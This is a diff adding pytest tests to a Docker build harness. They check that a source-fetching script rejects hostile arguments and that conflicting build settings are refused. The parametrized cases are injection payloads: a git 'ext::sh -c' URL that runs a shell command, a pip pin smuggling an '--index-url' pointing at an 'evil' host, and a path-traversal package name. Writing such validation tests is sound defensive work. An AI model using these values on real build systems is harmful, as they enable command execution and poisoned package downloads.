@@ -387,3 +387,30 @@ def test_matrix_file_that_is_not_a_small_text_file(tmp_path, capsys, make):
         path.write_bytes(b"\xff\xfe\x00garbage")
     rc, err = cli(["plan", "-m", str(path)], capsys)
     assert rc == 2 and "fix:" in err
+
+
+@pytest.mark.parametrize(("kind", "what", "pin"), [
+    ("git", "ext::sh -c touch% {marker}", SHA),
+    ("git", "https://github.com/a/b", "HEAD"),
+    ("pypi", "vllm", "0.33.0 --index-url http://evil"),
+    ("pypi", "../../x", "1.0"),
+])
+def test_fetch_source_in_the_image_checks_its_arguments(tmp_path, kind, what, pin):
+    # the build ARG reaches docker/fetch_source.py word-split by the shell: it checks again
+    import subprocess
+    import sys
+
+    from harness.build.render import DOCKER_DIR
+
+    marker = tmp_path / "pwned"
+    argv = [sys.executable, str(DOCKER_DIR / "fetch_source.py"), kind, what.format(marker=marker), pin,
+            "--dest", str(tmp_path / "dest")]
+    r = subprocess.run(argv, capture_output=True, text=True, timeout=60)
+    assert r.returncode != 0 and "fetch_source:" in r.stderr
+    assert not marker.exists() and not (tmp_path / "dest").exists()
+
+
+@pytest.mark.parametrize("field", ['python = "3.12"', "max_jobs = 4", 'torch_cuda_arch_list = "12.1a"'])
+def test_any_build_field_set_beside_image_is_refused(repo, field):
+    path = write(repo, BASE + f'\n[stacks.img]\nimage = "vllm/vllm-openai:v0.33.0"\n{field}\n')
+    assert any(p.startswith("stacks.img: `image` (a prebuilt image) and the build field(s)") for p in problems_of(path))
